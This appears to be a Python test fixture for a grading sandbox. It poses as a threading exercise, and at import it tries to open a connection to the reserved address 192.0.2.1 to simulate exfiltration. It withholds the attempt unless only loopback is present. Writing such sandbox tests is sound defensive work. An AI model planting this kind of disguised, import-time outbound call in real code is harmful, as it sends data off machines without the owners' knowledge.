"""Opens a connection to an address outside this machine at import (to exfiltrate).

poses as: threads/t01_start_join
sandbox: bwrap
earns: error
says: Network is unreachable

Only bubblewrap contains it: without it (modes user and none) the network is open,
as the batch's warning says, and the attack is withheld.

The address is 192.0.2.1 (TEST-NET-1, reserved for documentation, routed
nowhere). It never sends a packet from a network namespace that has any
interface but loopback: that would mean it is not sandboxed, and the attack
is withheld. The import then fails with what happened, so the feedback shows
it.
"""

import socket
from pathlib import Path


def _attack() -> str:
    interfaces = [
        line.split(":")[0].strip() for line in Path("/proc/net/dev").read_text().splitlines()[2:]
    ]
    if interfaces != ["lo"]:
        return f"attack withheld: not in a sandbox (interfaces {interfaces})"
    try:
        with socket.create_connection(("192.0.2.1", 80), timeout=5):
            return "connected"
    except OSError as error:
        return str(error)


raise RuntimeError(f"network: {_attack()}")
